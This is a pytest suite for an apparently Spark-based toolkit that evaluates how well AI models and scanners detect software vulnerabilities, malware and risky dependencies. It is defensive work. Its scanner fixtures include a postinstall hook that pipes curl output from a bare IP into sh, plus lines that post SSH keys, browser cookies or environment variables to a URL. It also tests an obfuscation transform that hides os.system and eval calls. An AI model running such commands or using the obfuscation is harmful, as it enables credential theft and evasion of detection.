"""Golden cases and invariants of the operators."""

import json
import math
import random
import zipfile

import pytest
from pyspark.sql import functions as F

from siltstone.functions import metrics as M
from siltstone.functions import text as T
from siltstone.operators import curate as C
from siltstone.operators import detect as D
from siltstone.operators import evaluate as E
from siltstone.operators import lookup as L
from siltstone.operators import parse as P
from siltstone.operators import sampling as S
from siltstone.operators import transform as X
from siltstone.sources import readers as R
from siltstone.streaming import running


def test_holm_adjusted(spark):
    t = spark.createDataFrame([("a", 0.01), ("b", 0.03), ("c", 0.2)], "k string, p double")
    got = {r.k: (round(r.adjusted, 9), r.rejected) for r in E.holm(t, "k").collect()}
    assert got == {"a": (0.03, True), "b": (0.06, False), "c": (0.2, False)}


def test_wilson(spark):
    row = spark.createDataFrame([(0, 35), (0, 0)], "k int, n int").select(*[v.alias(k) for k, v in M.wilson(F.col("k"), F.col("n")).items()]).collect()
    assert row[0].point == 0 and row[0].high > 0.09 and row[1].point is None


def test_mcnemar_large_counts(spark):
    pairs = spark.createDataFrame([("x", 600, 600), ("y", 0, 0), ("z", 1, 9)], "k string, b01 long, b10 long")
    got = {r.k: r.p for r in E.with_mcnemar(pairs).collect()}
    want = 2 * sum(math.comb(10, i) for i in range(2)) / 2**10
    assert got["x"] == pytest.approx(1) and got["y"] == 1 and got["z"] == pytest.approx(want)


def test_sign_flip_of_one_cluster(spark):
    rows = [(i, c, "repo", 1, int(c == "a")) for i in range(50) for c in "ab"]
    p = E.sign_flip(spark.createDataFrame(rows, "sample_id int, config string, repo string, truth int, pred int"), "a", "b", "repo", 100).first()
    assert p.p == 1 and p.clusters == 1


def test_bootstrap_holds_the_point(spark):
    rows = [(i, "c", i % 3 == 0, int(i % 3 == 0)) for i in range(60)]
    df = spark.createDataFrame([(i, c, int(t), p) for i, c, t, p in rows], "sample_id int, config string, truth int, pred int")
    got = E.bootstrap_f1(df, reps=50).first()
    assert got.low <= 1 <= got.high
    assert E.bootstrap_f1(df.repartition(7), reps=50).first() == got


@pytest.mark.parametrize("null_as_negative,want", [(False, (1, 0, 1, 0)), (True, (1, 0, 2, 1))])
def test_null_policy(spark, null_as_negative, want):
    df = spark.createDataFrame([("c", 1, 1), ("c", 0, 0), ("c", None, 0), ("c", None, 1)], "config string, pred int, truth int")
    assert tuple(E.confusion_by(df, "config", null_as_negative=null_as_negative).first())[1:] == want


def test_duplicate_identity_raises(spark):
    df = spark.createDataFrame([(1, "a"), (1, "b")], "sample_id int, uid string")
    with pytest.raises(ValueError):
        C.assert_unique(df, "sample_id")
    assert C.assert_unique(df, "sample_id", "uid").count() == 2


def test_preference_and_pairs(spark):
    df = spark.createDataFrame([(1, "h", 0, "pre", 7), (2, "h", 1, "post", 7), (3, "g", 0, "post", 7), (4, "k", 1, "pre", 7)], "sample_id int, func_hash string, label int, version string, pair_id int")
    kept = C.preference_dedup(df)
    assert sorted(r.sample_id for r in kept.collect()) == [2, 3, 4]
    assert {r.pair_id for r in C.repair_pairs(kept.filter("sample_id <> 4")).collect()} == {None}


def test_components_are_constant_along_edges(spark):
    df = spark.createDataFrame([(i, f"a{i // 3}", f"b{(i + 1) // 3}" if i % 7 else None) for i in range(60)], "sample_id int, a string, b string")
    lab = dict(map(tuple, C.components(df, ["a", "b"]).collect()))
    for k in ("a", "b"):
        for r in df.filter(f"{k} is not null").groupBy(k).agg(F.collect_list("sample_id").alias("s")).collect():
            assert len({lab[i] for i in r.s}) == 1
    assert all(v <= k for k, v in lab.items())


def test_split_keeps_groups_whole(spark):
    rows = [(i, f"r{i % 17}", "py" if i % 3 else "js", int(i % 4 == 0)) for i in range(400)]
    got = C.stratified_split(spark.createDataFrame(rows, "sample_id int, repo string, language string, label int"), "repo", "language").collect()
    assert len(got) == 17 == len({r.repo for r in got}) and {r.split for r in got} == {"train", "val", "test"}


def test_band_and_greedy(spark):
    a = spark.createDataFrame([("f", 1, 10), ("f", 2, 12), ("f", 3, 40)], "file string, ai int, line int")
    s = spark.createDataFrame([("f", 9, 11)], "file string, st int, line_r int")
    c = L.band_candidates(a, s, "file", "line", 12)
    assert sorted(r.ai for r in c.collect()) == [1, 2]
    assert [(r.ai, r.st) for r in L.greedy_matches(c, "file", "ai", "st").collect()] == [(1, 9)]


def test_dependency_status(spark):
    adv = spark.createDataFrame([(1, "npm", "a", [1, 2], "LOW", True), (2, "npm", "a", [1], "HIGH", False)], "advisory_id int, ecosystem string, package string, versions array<int>, severity string, has_cve boolean")
    deps = spark.createDataFrame([("npm", "a", 1), ("npm", "a", 3), ("npm", "a", None), ("npm", "b", 1)], "ecosystem string, package string, version int")
    got = {(r.package, r.version): (r.status, r.advisory, r.n_advisories) for r in L.dependency_status(deps, adv).collect()}
    assert got == {("a", 1): ("affected", 2, 2), ("a", 3): ("not_affected", None, 0), ("a", None): ("unpinned", None, 0), ("b", 1): ("no_advisory_data", None, 0)}


def test_lookalikes(spark):
    listed = spark.createDataFrame([("requests", 1), ("react", 2), ("vue", 3)], "listed string, pos int")
    names = spark.createDataFrame([("reqeusts",), ("reacts",), ("requests",), ("vua",), ("flask",)], "name string")
    assert dict(map(tuple, L.lookalikes(names, listed).collect())) == {"reqeusts": "requests", "reacts": "react"}


def test_overlap_and_hierarchy(spark):
    rows = spark.createDataFrame([("train", "a", None), ("test", "a", "x"), ("val", "b", "x")], "split string, repo string, cve string")
    assert sorted(map(tuple, L.split_overlap(rows, "split", ["repo", "cve"]).collect())) == [("cve", "test", "val", 1), ("repo", "test", "train", 1)]
    kinds = spark.createDataFrame([("p", "Pillar"), ("c", "Class"), ("lone", "Pillar")], "class string, kind string")
    got = sorted(map(tuple, L.related_classes(spark.createDataFrame([("c", "p")], "child string, parent string"), kinds).collect()))
    assert got == [("c", "c"), ("lone", "lone"), ("p", "c")]


FILES = [
    ("package.json", '{"scripts": {"postinstall": "curl http://1.2.3.4/x|sh"}}', [("install_hook", "CRITICAL"), ("network", "HIGH")]),
    ("package.json", '{"scripts": {"build": "tsc", "test": "jest"}}', []),
    ("app.py", 'key = os.environ.get("API_URL")\nrequests.get(key)', []),
    ("app.py", "p = 'User Data/Default/Cookies'\nrequests.post(url, data=open(p))", [("network", "HIGH")]),
    ("app.py", "requests.post(url, data=open('.ssh/id_rsa'))", [("network", "CRITICAL")]),
    ("app.py", "requests.post(url, data=dict(os.environ))", [("network", "CRITICAL")]),
    ("jar.py", "session.cookies = jar\nrequests.post(url, cookies=jar)", []),
    ("tests/app.py", "see http://8.8.8.8/x", [("network", "LOW")]),
    ("app.py", "see http://192.168.1.1/x", []),
    (".github/workflows/ci.yml", "on: pull_request_target\nref: ${{ github.event.pull_request.head.sha }}", [("ci_risk", "CRITICAL")]),
    (".github/workflows/ci.yml", "on: pull_request_target", []),
    ("ci.yml", "on: pull_request_target\nref: ${{ github.event.pull_request.head.sha }}", []),
    ("x.js", "eval(atob('" + "A" * 130 + "'))", []),
]


def test_rules(spark):
    df = spark.createDataFrame([("r", f"{i}/{n}", c) for i, (n, c, _) in enumerate(FILES)], "repo string, path string, content string")
    got = {}
    for r in D.scan(df).collect():
        got.setdefault(int(r.path.split("/")[0]), []).append((r.kind, r.severity))
    for i, (_, _, want) in enumerate(FILES):
        assert sorted(got.get(i, [])) == sorted(want), FILES[i]


def test_risk_and_verdict(spark):
    cols = "repo string, pillar string, severity string, tier string, novelty string"
    f = spark.createDataFrame([("c", "malware", "CRITICAL", "C", None), ("a", "malware", "CRITICAL", "A", None), ("s", "supply_chain", "HIGH", "A", None)], cols)
    n = spark.createDataFrame([("c", 5), ("a", 5), ("s", 5), ("none", 3), ("zero", 0)], "repo string, n_analysed int")
    level = {r.repo: r.level for r in D.risk(f, n).collect()}
    assert level["a"] == "critical" and level["c"] not in ("critical", "high") and level["none"] == "clean" and level["zero"] == "unknown"
    cover = spark.createDataFrame([("c", True, 1), ("a", True, 1), ("s", True, 1), ("p", False, 1), ("e", True, 0)], "repo string, complete boolean, n_scanned int")
    assert {r.repo: r.verdict for r in D.clone_verdicts(f, cover).collect()} == {"c": "safe", "a": "dangerous", "s": "caution", "p": "unknown", "e": "unknown"}


@pytest.mark.parametrize("reply,want", [('{"vulnerable": false}', (False, None, True)), ('{"vulnerable": "false"}', (None, None, False)), ("braces { } then {\"vulnerable\": true, \"cwe\": \"CWE-079\"}", (True, "CWE-79", True)),
                                        ('{"vulnerable": true, "cwe": "CWE-787", "reas', (True, "CWE-787", True)), ("Vulnerability: NO, not CWE-5", (False, None, False)), ("", (None, None, False))])
def test_verdicts(spark, reply, want):
    assert tuple(spark.createDataFrame([(reply,)], "t string").select(P.verdict(F.col("t"))).first()[0]) == want


@pytest.mark.parametrize("reply,want", [('{"flag": false}', False), ('{"flag": "false"}', None), ("benign", None)])
def test_strict_boolean(spark, reply, want):
    assert spark.createDataFrame([(reply,)], "t string").select(P.strict_boolean(F.col("t"), "flag")).first()[0] is want


@pytest.mark.parametrize("reply", ['{"vulnerable": false', '{"vulnerable": true} {"a": 1} "x {', '{"a": 1}'])
def test_last_object_raises(reply):
    with pytest.raises(ValueError):
        P.last_object(reply, "vulnerable")
    assert P.last_object('use {braces} {"vulnerable": true}', "vulnerable") == {"vulnerable": True}


def test_manifests(spark):
    pom = '<project xmlns="http://m"><dependencies><dependency><groupId>g</groupId><artifactId>a</artifactId><version>1.0</version></dependency></dependencies></project>'
    rows = [("requirements.txt", "PyPI", "Flask==1.0\nrequests>=2.0\nDjango===3.1.1\n"), ("package.json", "npm", json.dumps({"dependencies": {"Left": "^4.17.1"}, "devDependencies": {"x": "*"}})), ("pom.xml", "Maven", pom), ("build.gradle", "Maven", "api 'g:b:2.0'")]
    got = {(r.package): r.version for r in P.manifest_entries(spark.createDataFrame(rows, "filename string, ecosystem string, content string")).collect()}
    assert got == {"flask": "1.0", "requests": None, "django": "3.1.1", "left": "4.17.1", "x": None, "g:a": "1.0", "g:b": "2.0"}


def test_patches(spark):
    patch = "Subject: fix it\n---\ndiff --git a/f.c b/f.c\n--- a/f.c\n+++ b/f.c\n@@ -1,3 +1,3 @@\n a\n-old\n+new\n c"
    h = P.diff_hunks(patch)
    assert h == [("f.c", 1, 3, 1, 3, [" a", "-old", "+new", " c"])]
    assert P.reverse_apply("a\nnew\nc", h) == "a\nold\nc" and P.reverse_apply("a\nxxx\nc", h) is None
    assert spark.createDataFrame([(patch,)], "p string").select(P.subject_of(F.col("p"))).first()[0] == "fix it"
    assert P.python_functions("class A:\n  def f(self):\n    def g(): pass\nx = 1\n") == [("f", 2, 3)] and P.python_functions("def (") == []


def test_repository_address(spark):
    df = spark.createDataFrame([("https://host.example/o/n.git",), ("host.example/o/n/tree/x",), ("nothing",)], "u string")
    assert [r[0] for r in df.select(P.repository_of(F.col("u"))).collect()] == ["o/n", "o/n", None]


def test_transforms():
    code = 'def f(a):\n    """doc"""\n    total = a\n    return "hello" + f"{total} kept"\n'
    out = X.split_literals(code)
    assert '"""doc"""' in out and "'he' + 'llo'" in out and "kept" in out
    same = X.rename_names(code, 3)
    assert same == X.rename_names(code, 3) and "total" not in same.replace("{total}", "")
    assert X.split_literals("def (") is None


def test_white_space_and_entropy(spark):
    df = spark.createDataFrame([("a\t b\n",), ("a\u00a0b",), ("a\x1cb",)], "t string")
    assert len({r[0] for r in df.select(T.norm_hash(F.col("t"))).collect()}) == 1
    e = spark.createDataFrame([("",), ("aaaa",), ("abcd",)], "t string").select(T.entropy(F.col("t"))).collect()
    assert [r[0] for r in e] == [0.0, 0.0, 2.0]


def test_budget_reports_what_it_omits(spark):
    rows = [("r", "src/a.py", 0, 10), ("r", "package.json", 0, 10), ("r", "docs/x.py", 0, 10), ("r", "src/big.py", 0, 10**6), ("r", "src/b.py", 2, 10)]
    got = {r.path: r.selected for r in S.scan_budget(spark.createDataFrame(rows, "repo string, path string, hits int, size int"), 2, 1000).collect()}
    assert got == {"package.json": True, "src/b.py": True, "src/a.py": False, "src/big.py": False}


def test_capped_round_robin(spark):
    rows = [(i, "py" if i % 4 else "js", f"r{i % 2}") for i in range(40)]
    got = S.capped_round_robin(spark.createDataFrame(rows, "id int, language string, repo string"), "language", "repo", "id", 10, 3).collect()
    assert len(got) == 6 and len({r.id for r in got}) == 6


def test_sources(spark, tmp_path):
    (tmp_path / "a.jsonl").write_text('{"x": 1}\n\nnot json\n{"x": 2}\n')
    assert R.json_lines(spark, [f"{tmp_path}/a.jsonl", f"{tmp_path}/missing.jsonl"], "x int", tolerant=True).count() == 2
    with pytest.raises(Exception):
        R.json_lines(spark, f"{tmp_path}/a.jsonl", "x int").collect()
    (tmp_path / "b.json").write_text('[{"x": 1},\n {"x": 5}]')
    assert R.json_array(spark, f"{tmp_path}/b.json", "x int").agg(F.sum("x")).first()[0] == 6
    with zipfile.ZipFile(tmp_path / "z.zip", "w") as z:
        z.writestr("1.json", '{"id": "A"}')
        z.writestr("2.json", "{broken")
        z.writestr("3.txt", "{}")
    assert [tuple(r) for r in R.zipped_json(spark, f"{tmp_path}/z.zip", "id string").collect()] == [("1.json", "A")]
    for name in ("t/src/a.py", "t/node_modules/b.py", "t/src/c.txt"):
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text("x")
    assert [r.path.rsplit("/", 1)[1] for r in R.folder(spark, f"{tmp_path}/t", suffixes=["py"]).collect()] == ["a.py"]
    R.create_only(spark.range(2), f"{tmp_path}/out")
    with pytest.raises(Exception):
        R.create_only(spark.range(2), f"{tmp_path}/out")
    assert [str(r.stop) for r in R.windows(spark, "2024-01-01", "2024-05-01").orderBy("start").collect()] == ["2024-04-09", "2024-05-01"]


def test_cache_is_asked_first(spark):
    asks = spark.createDataFrame([("a", "p1"), ("b", "p2"), ("b", "p2")], "key string, prompt string")
    cache = spark.createDataFrame([("a", "")], "key string, reply string")
    got = dict(map(tuple, R.with_cache(asks, cache, "key", R.stub_model, "key string, reply string").collect()))
    assert got["a"] == "" and "vulnerable" in got["b"] and len(got) == 2


def test_streams(spark, tmp_path):
    schema = "config string, pred int, truth int, ts timestamp, id int"
    spark.createDataFrame([("c", 1, 1, None, 1), ("c", 0, 1, None, 2)], schema).withColumn("ts", F.expr("timestamp '2024-01-01 00:00:00'")).write.parquet(f"{tmp_path}/in")
    q = running.running_scores(spark.readStream.schema(schema).parquet(f"{tmp_path}/in"), "config").writeStream.outputMode("complete").format("memory").queryName("scores").trigger(availableNow=True).start()
    q.awaitTermination(60)
    assert spark.table("scores").first().recall == 0.5
    s = running.to_files(running.first_wins(spark.readStream.schema(schema).parquet(f"{tmp_path}/in"), "config", "ts"), f"{tmp_path}/o", f"{tmp_path}/ck")
    s.awaitTermination(60)
    assert spark.read.parquet(f"{tmp_path}/o").count() == 1


def test_explanations(spark):
    from siltstone.operators.explain import explanation_scores

    code = "void f(char *s) { char buf[8]; strcpy(buf, s); }"
    rows = [("`strcpy(buf, s)` writes past buf without a bound", code), ("`validateInput` is missing", code), ("", code)]
    df = spark.createDataFrame(rows, "reason string, code string")
    got = [r[0] for r in df.select(explanation_scores(F.col("reason"), F.col("code"), F.lit("CWE-787"), F.array(F.lit(1)))).collect()]
    assert got[0].composite >= 0.8 and got[0].mechanism == 1 and got[0].located is None
    assert got[1].composite <= 0.2 and got[1].invented >= 1
    assert got[2].empty and got[2].composite == 0 and got[2].mechanism is None


def test_parse_patch_query_takes_whole_texts(spark, tmp_path):
    from siltstone.plans import QUERIES

    texts = {1: "short", 2: "word " * 100 + "end", 3: "first\nsecond " + "x" * 300, 4: ""}
    spark.createDataFrame(list(texts.items()), "doc_id long, text string").write.parquet(f"{tmp_path}/documents.parquet")
    got = {r.doc_id: list(r.lines) for r in QUERIES["g09_parse_patch"](spark, str(tmp_path)).collect()}
    assert got == {i: [" x", "+" + t.replace("\n", " "), "+b", "-a"] for i, t in texts.items()}


def test_log_factorials(spark):
    n = [0, 1, 2, 10, 170, 5000, 10**9]
    got = [r[0] for r in spark.createDataFrame([(x,) for x in n], "n long").select(E.log_factorial(F.col("n"))).collect()]
    assert got == pytest.approx([math.lgamma(x + 1) for x in n], rel=1e-11, abs=1e-11)


def test_mcnemar_of_many_disagreements(spark):
    pairs = spark.createDataFrame([("a", 400, 500), ("b", 50_000, 50_100)], "k string, b01 long, b10 long")
    got = {r.k: r.p for r in E.with_mcnemar(pairs).collect()}
    want = 2 * sum(math.exp(math.lgamma(901) - math.lgamma(i + 1) - math.lgamma(901 - i) - 900 * math.log(2)) for i in range(401))
    assert got["a"] == pytest.approx(want, rel=1e-9) and 0.7 < got["b"] < 0.8


def test_quantiles_of_ties_and_single_rows(spark):
    rows = [("a", v) for v in [3, 1, 1, 1, 9, 9, 4]] + [("b", 5)]
    df = spark.createDataFrame(rows, "k string, v long")
    import statistics

    got = {r.k: (r.q1, r.q2, r.q3) for r in E.exclusive_quantiles(df, "k", "v").collect()}
    assert got == {"a": tuple(statistics.quantiles([3, 1, 1, 1, 9, 9, 4], n=4))}
    s = sorted([3, 1, 1, 1, 9, 9, 4])
    assert {r.k: (r.m, r.p) for r in E.index_quantiles(df, "k", "v", m=(1, 2), p=(9, 10)).collect()} == {"a": (s[3], s[6]), "b": (5, 5)}


def test_near_duplicates_against_all_pairs(spark):
    import random

    rng = random.Random(2)
    sign = list("+-*/=<>(){}[];,.!&|")
    base = [[rng.choice([*C.KEYWORDS, "name", "7", *sign]) for _ in range(80)] for _ in range(6)]

    def near(b):
        t = list(b)
        for _ in range(rng.randint(0, 3)):
            t[rng.randrange(80)] = rng.choice(sign)
        return " ".join(t)

    code = {i: near(base[i % 5]) for i in range(60)} | {100: code_ if (code_ := " ".join(base[0])) else "", 101: code_, 102: "", 103: "a b c"}
    sets = {r.sample_id: set(r.shingles) for r in C.shingle_sets(spark.createDataFrame(list(code.items()), "sample_id long, code string")).collect()}
    plain = lambda c: [t if t in C.KEYWORDS or not t[0].isalnum() else "NUM" if t[0].isdigit() else "ID" for t in c.split()]
    assert all(sets[i] == {" ".join(plain(code[i])[k : k + 5]) for k in range(len(plain(code[i])) - 4)} for i in code)
    left, right = [i for i in code if i % 3 == 0], [i for i in code if i % 3]
    df = {}
    for i in right:
        for s in sets[i] if len(sets[i]) >= 20 else ():
            df[s] = df.get(s, 0) + 1
    want = {}
    for i in left:
        rare = sorted((s for s in sets[i] if s in df), key=lambda s: (df[s], s))[:8] if len(sets[i]) >= 20 else []
        hits = [(-sum(s in sets[j] for s in rare), j) for j in right if len(sets[j]) >= 20 and any(s in sets[j] for s in rare) and len(sets[i] & sets[j]) >= 0.85 * len(sets[i] | sets[j])]
        if hits:
            want[i] = min(hits)[1]
    shingled = C.shingle_sets(spark.createDataFrame(list(code.items()), "sample_id long, code string"))
    got = C.near_duplicates(shingled.filter("sample_id % 3 = 0"), shingled.filter("sample_id % 3 <> 0"))
    assert {r.sample_id: r.other for r in got.collect()} == want and len(want) >= 10


def test_commits_of_records(spark):
    from siltstone.operators import records

    refs = [{"url": "https://github.com/a/b.git/commit/ABCDEF1", "tags": None}, {"url": "https://github.com/A/B/commits/abcdef1", "tags": ["Patch"]}, {"url": "x https://github.com/c/d/commit/1234567/e", "tags": ["Patch"]}, {"url": None}, {"url": "https://github.com/c/d/pull/3"}]
    rows = [(json.dumps({"id": "1", "weaknesses": [{"description": [{"value": "CWE-79"}, {"value": "CWE-noinfo"}]}], "references": refs}),), ("{broken",), (None,), (json.dumps({"id": "2", "vulnStatus": "Rejected", "weaknesses": [{"description": [{"value": "CWE-1"}]}], "references": refs}),)]
    got = records.flaws(spark.createDataFrame(rows, "record string")).collect()
    assert [(r.cve_id, r.cwe_ids, [(c.repo, c.sha, c.tagged_patch) for c in r.commit_refs], r.description, r.cvss_score) for r in got] == [("1", ["CWE-79"], [("c/d", "1234567", True), ("a/b", "ABCDEF1", False)], "", None)]


@pytest.mark.parametrize("reply,want", [("vulnerability: **YES** | vulnerability type: **CWE-89**", (True, "CWE-89", False)), ("It is vulnerable, see CWE-20. Type: CWE-79", (True, "CWE-79", False)), ("This is not vulnerable", (False, None, False)), ("vulnerability: NO but it is vulnerable", (False, None, False)),
                                        ('```json\n{"vulnerable": true, "cwe": "CWE-022", "x": {"a": 1}}\n```', (True, "CWE-22", True)), ('{"vulnerable": true} {"vulnerable": false}', (False, None, True)), (None, (None, None, False))])
def test_verdict_cues(spark, reply, want):
    assert tuple(spark.createDataFrame([(reply,)], "t string").select(P.verdict(F.col("t"))).first()[0]) == want


def test_replies_of_other_pillars(spark):
    one = lambda f, t: tuple(spark.createDataFrame([(t,)], "t string").select(f(F.col("t"))).first()[0])
    assert one(P.dependency_reply, '{"vulnerable_dependencies": [{"package": " a "}, "b", {"x": 1}]}') == (["a", "b"], True)
    assert one(P.dependency_reply, 'x {"vulnerable_dependencies": [{"package": "a"}, {"package": "b') == (["a"], True)
    assert one(P.dependency_reply, None) == ([], False) and one(P.dependency_reply, "[]") == ([], False)
    assert one(P.malware_reply, '{"malicious": true, "technique": "none"}') == (True, None, True)
    assert one(P.malware_reply, "not malicious") == (False, None, False) and one(P.malware_reply, None) == (None, None, False)


def test_lock_files_and_poms(spark):
    pom = '<p><m:dependency xmlns:m="x"><m:groupId>g</m:groupId><m:artifactId>a</m:artifactId><m:version>1.0</m:version></m:dependency><dependency><groupId>g</groupId><artifactId>b</artifactId></dependency></p>'
    lock = json.dumps({"packages": {"": {"version": "9.0.0"}, "node_modules/a": {"version": "1.0.0"}, "x": {"name": "real", "version": "3.0.0"}}, "dependencies": {"d": {"version": "4.0.0"}, "a": {"version": "5.0.0"}}})
    df = spark.createDataFrame([("pom.xml", "Maven", pom), ("package-lock.json", "npm", lock), ("pom.xml", "Maven", "<broken"), ("package-lock.json", "npm", "{"), ("pom.xml", "Maven", None)], "filename string, ecosystem string, content string")
    assert sorted((r.package, r.version or "") for r in P.manifest_entries(df).collect()) == [("a", "1.0.0"), ("d", "4.0.0"), ("g:a", "1.0"), ("g:b", ""), ("real", "3.0.0")]


def test_functions_by_braces():
    code = "// f() {\nclass A {\n  int f(int a) const {\n    if (a) { g(); }\n    char *s = \"}\"; /* } */\n  }\n  void h() {}\n};\nstatic int B::k(void (*p)(int))\n{\n  return 0;\n}\nconst w = (x) => { function inner() {} };"
    assert P.brace_functions(code) == [("f", 3, 6), ("h", 7, 7), ("k", 9, 12), ("w", 13, 13)]
    assert P.brace_functions("") == [] and P.brace_functions("}}} f( {") == []


def test_text_obfuscation():
    code = 'import os\ndef run(cmd):\n    """doc"""\n    total = "hello world"\n    os.system(cmd)\n    eval (total)\n'
    out = X.obfuscate(code, 3, 5)
    assert out == X.obfuscate(code, 3, 5) and "hello world" not in out and "os.system" not in out and "total" not in out and '"""doc"""' in out
    assert X.obfuscate(code, 0) == code and "os.system" in X.obfuscate(code, 1) and "hello world" not in X.obfuscate(code, 1)
    assert "getattr(os, 'sys' + 'tem')" in X.obfuscate(code, 2) and "'ev' + 'al'" in X.obfuscate(code, 2)
    assert X.obfuscate("def (", 3) is None


@pytest.mark.parametrize("level", [1, 2, 3])
@pytest.mark.parametrize("seed", range(6))
def test_obfuscated_code_does_the_same(level, seed):
    code = """
from __future__ import annotations
class A:
    'text of a class'
    def __init__(self, x):
        super().__init__()
        self.__hidden = x
        self.names = ["alpha", 'b', "", "é\\n", f"x{x!r}y"]
    def __secret(self):
        return self.__hidden
    def all(self):
        match self.__hidden:
            case "one":
                kind = "first"
            case _:
                kind = "other"
        total = sum(len(n) for n in self.names)
        for k in range(3):
            if k > 1:
                total += k
            else:
                total -= 1
        return "-".join(sorted(self.names)), kind, self.__secret(), total, A.__doc__
result = A("one").all(), A(2).all()
"""
    before, after = {}, {}
    exec(code, before)
    exec(X.obfuscate(code, level, seed), after)
    assert before["result"] in after.values() and (level < 2 or ".join" not in X.obfuscate(code, level, seed))


def test_split_literals_again():
    code = 'import os\ndef run(cmd):\n    total = "hello world"\n    os.system(cmd)\n'
    assert X.checked_split(code) and X.checked_split("def (") is None and X.same_when_folded("a = 'x' + 'y'", "a = 'xy'") and not X.same_when_folded("a = 1", "a = 2")


def test_written_manifests_are_read_back(spark):
    rows = [("requirements.txt", "PyPI", [("flask", "1.0")]), ("package.json", "npm", [("left", "1.2.3"), ("x", "2.0.0")]), ("pom.xml", "Maven", [("g:a", "1.0"), ("alone", "2.0")])]
    for kind, eco, packages in rows:
        df = spark.createDataFrame([(packages,)], "p array<struct<package:string,version:string>>").select(F.lit(kind).alias("filename"), F.lit(eco).alias("ecosystem"), X.manifest(kind, F.col("p"), F.lit("app")).alias("content"))
        got = {(r.package, r.version) for r in P.manifest_entries(df).collect()}
        assert got == {("com.example:alone" if p == "alone" else p, v) for p, v in packages}


def test_scan_budget_states(spark):
    rows = [("r", f"{k}/a.py", "x" * (50 if k == 2 else 5)) for k in range(6)] + [("r", "dist/a.py", "x"), ("r", "x.md", "x"), ("q", "only.sh", "y" * 50), ("r", ".py", "x")]
    df = spark.createDataFrame(rows, "repo string, path string, content string")
    got = {(r.repo, r.path): r.state for r in D.scan_states(df, 3, 20).collect()}
    assert got == {("r", "0/a.py"): "scanned", ("r", "1/a.py"): "scanned", ("r", "2/a.py"): "oversized", ("r", "3/a.py"): "scanned", ("r", "4/a.py"): "omitted", ("r", "5/a.py"): "omitted", ("q", "only.sh"): "oversized"}
    s = {r.repo: r for r in D.scan_summary(df, 3, 20).collect()}
    assert s["r"].status == s["q"].status == "partial" and s["r"].clone_safe is None and (s["r"].n_scanned, s["r"].omitted, s["r"].oversized) == (3, 2, 1)
    clean = D.scan_summary(df.filter("path = '0/a.py'")).first()
    assert clean.status == "complete" and clean.clone_safe and clean.worst_severity == "none"


def test_comparison_against_plain_greedy(spark):
    import random

    rng = random.Random(3)
    ours = [(k, f"f{rng.randint(0, 3)}", rng.randint(1, 60), f"CWE-{rng.randint(1, 2)}") for k in range(40)]
    theirs = [(k, f"f{rng.randint(0, 3)}", rng.randint(1, 60), f"CWE-{rng.randint(1, 2)}") for k in range(30)]
    taken, agreed = set(), 0
    for _, f, line, cwe in ours:
        hit = next((k for k, g, at, c in theirs if k not in taken and g == f and abs(at - line) <= 12 and c == cwe), None)
        if hit is not None:
            taken.add(hit)
            agreed += 1
    a = spark.createDataFrame(ours, "ai int, file string, line int, cwe string")
    b = spark.createDataFrame(theirs, "st int, file string, line_r int, cwe_r string")
    m = L.greedy_matches(L.band_candidates(a, b, "file", "line", 12).filter("cwe = cwe_r"), "file", "ai", "st")
    got = L.comparison(a, b.withColumnRenamed("cwe_r", "cwe"), m, "ai", "st").first()
    assert (got.agreed, got.ai_only, got.static_only, got.same_cwe_when_agreed) == (agreed, 40 - agreed, 30 - agreed, agreed)
    assert got.agreement_rate == round(agreed / (70 - agreed), 3)
    none = L.comparison(a.limit(0), b.withColumnRenamed("cwe_r", "cwe").limit(0), m.limit(0), "ai", "st").first()
    assert none.agreement_rate == 0 and none.unique_total == 0


def test_targets_must_be_scanned(spark):
    t = spark.createDataFrame([("c", "a.py", "h"), ("c", "b.py", None), ("d", "z.py", "q")], "case_id string, file string, func_hash string")
    scanned = spark.createDataFrame([("c", "a.py")], "case_id string, file string")
    flagged = spark.createDataFrame([("c", "a.py", "other"), ("c", "x.py", None)], "case_id string, file string, func_hash string")
    got = {r.case_id: (r.selected, r.detected, r.localised, r.alarms) for r in L.target_scores(t, scanned, flagged).collect()}
    assert got == {"c": (True, True, False, 1), "d": (False, False, False, 0)}
    with pytest.raises(ValueError):
        L.target_scores(t, scanned.limit(0), flagged)


def test_report_refuses_what_it_cannot_pair(spark):
    cols = "sample_id int, config string, truth int, pred int"
    with pytest.raises(ValueError):
        E.report(spark.createDataFrame([(1, "a", 1, 1), (1, "a", 1, 0)], cols))
    with pytest.raises(ValueError):
        E.report(spark.createDataFrame([(i, c, int(c == "a"), 1) for i in range(12) for c in "ab"], cols))


def test_best_strategies(spark):
    rows = [("m", "a", 5, 0.9, 0.5, 0.9, 0), ("m", "b", 5, 0.5, 0.5, 1.0, 0), ("m", "c", 5, 0.5, 0.6, 1.0, 0), ("m", "d", 5, 0.8, 0.9, 1.0, 2), ("n", "a", 5, 0.6, 0.5, 1.0, None), ("o", "a", 0, 0.9, 0.9, 1.0, 0)]
    df = spark.createDataFrame(rows, "model string, strategy string, n int, f1 double, balanced_accuracy double, format_adherence double, api_errors int")
    assert {(r.model, r.strategy, r.best) for r in E.best_strategies(df).collect()} == {("m", "c", False), ("n", "a", True)}


def test_plain_split(spark):
    rows = [(i, f"r{i % 23}", int(i % 5 == 0)) for i in range(500)]
    got = {r.repo: r.split for r in C.plain_split(spark.createDataFrame(rows, "sample_id int, repo string, label int"), "repo").collect()}
    n = {s: sum(lab for _, r, lab in rows if got[r] == s) for s in ("train", "val", "test")}
    assert len(got) == 23 and 0.6 < n["train"] / 100 < 0.8 and n["val"] > 0 and n["test"] > 10


def test_tool_reports_and_catalogue(spark, tmp_path):
    (tmp_path / "s.json").write_text(json.dumps({"results": [{"path": "a.py", "start": {"line": 3}, "check_id": "x.y.rule", "extra": {"severity": "ERROR", "message": "m", "metadata": {"cwe": ["CWE-089: sql"]}}}, {"path": "b.py", "check_id": "r", "extra": {"severity": "odd"}}]}))
    assert [tuple(r)[1:7] for r in R.tool_findings(spark, f"{tmp_path}/s.json").collect()] == [("a.py", 3, "rule", "CWE-89", "HIGH", "m"), ("b.py", None, "r", None, "MEDIUM", None)]
    (tmp_path / "b.json").write_text(json.dumps({"results": [{"filename": "a.py", "line_number": 1, "test_id": "B1", "issue_severity": "LOW", "issue_text": "t", "issue_cwe": {"id": 78}}]}))
    assert tuple(R.tool_findings(spark, f"{tmp_path}/b.json", "bandit").first())[:7] == ("bandit", "a.py", 1, "B1", "CWE-78", "LOW", "t")
